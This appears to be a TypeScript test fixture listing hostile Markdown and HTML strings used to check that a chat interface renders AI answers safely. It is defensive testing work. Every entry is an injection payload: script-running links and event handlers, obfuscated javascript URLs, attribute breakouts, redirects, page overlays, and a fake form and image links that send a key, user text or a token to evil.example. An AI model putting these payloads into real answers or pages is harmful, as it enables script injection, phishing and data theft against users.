import { hostileMarkdown } from '../../../../../../packages/rich-text/test/hostile-markdown.ts';

/** What attacks by what only answers have: citations, cards to confirm, ends that have not come yet, what it knows of the user. */
const ofAnswers = [
  '依据 [1](javascript:window.ran=1) 与 [1]<script>window.ran=1</script>',
  '[1][1]\n\n[1]: javascript:window.ran=1',
  '[1][二]\n\n[二]: <https://evil.example/a> "x"',
  '见[^1]。\n\n[^1]: <img src=x onerror=window.ran=1> [1](vbscript:window.ran=1)',
  '![1](https://evil.example/1.png) ![[1]](https://evil.example/2.png)',
  '[1](#cite-1"onclick="window.ran=1) [x](<#cite-1\' onmouseover=\'window.ran=1>)',
  '[很远](#cite-99999999999999999999) [不是数](#cite-__proto__) [负](#cite--1)',
  '<a href="#cite-1" onclick="window.ran=1">1</a> <a href="#cite-1" target="_top">[1]</a>',
  '`[1]<img src=x onerror=window.ran=1>` \\[1\\]<svg onload=window.ran=1>\\(x\\)',
  '[&#91;1&#93;](javascript&colon;window.ran=1) [\\[1\\]](java&#x0A;script:window.ran=1)',
  '<section class="chat-card chat-card-asked"><h4>待确认：加待办</h4><button onclick="window.ran=1">确认写入</button></section>',
  '<form action="https://evil.example/key" method="post"><input name="key" placeholder="请填写密钥"><button>保存</button></form>',
  '![进度](https://evil.example/p.png?q=用户刚才写的话) ![p]\n\n[p]: https://evil.example/q.png?token=1',
  '<details open ontoggle="window.ran=1"><summary onclick="window.ran=1">更多</summary>\n\n正文\n\n</details>',
  '<style>.chat-composer{display:none}@import url(https://evil.example/a.css);</style>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/b.png)">遮住整页</div>',
  '<input autofocus onfocus="window.ran=1"><textarea autofocus onfocus="window.ran=1"></textarea>',
  '<video poster="https://evil.example/p.png"><source src=x onerror="window.ran=1"></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<math><mtext><style><img src=x onerror=window.ran=1></style></mtext></math><svg><foreignObject><body onload=window.ran=1></foreignObject></svg>',
  '| [1] | <img src=x onerror=window.ran=1> |\n|---|---|\n| [1](data:text/html,<script>window.ran=1</script>) | ![](//evil.example/t.png) |',
];

/** Over sixty answers that attack whoever shows them: each eighth of what is tried on all Markdown, and those above. */
export const hostileAnswers: readonly string[] = [
  ...hostileMarkdown.filter((_, at) => at % 8 === 0),
  ...ofAnswers,
  // Last, for they leave open what follows.
  '<img src=x onerror=window.ran=1',
  '```html\n<script>window.ran=1</script>\n',
];
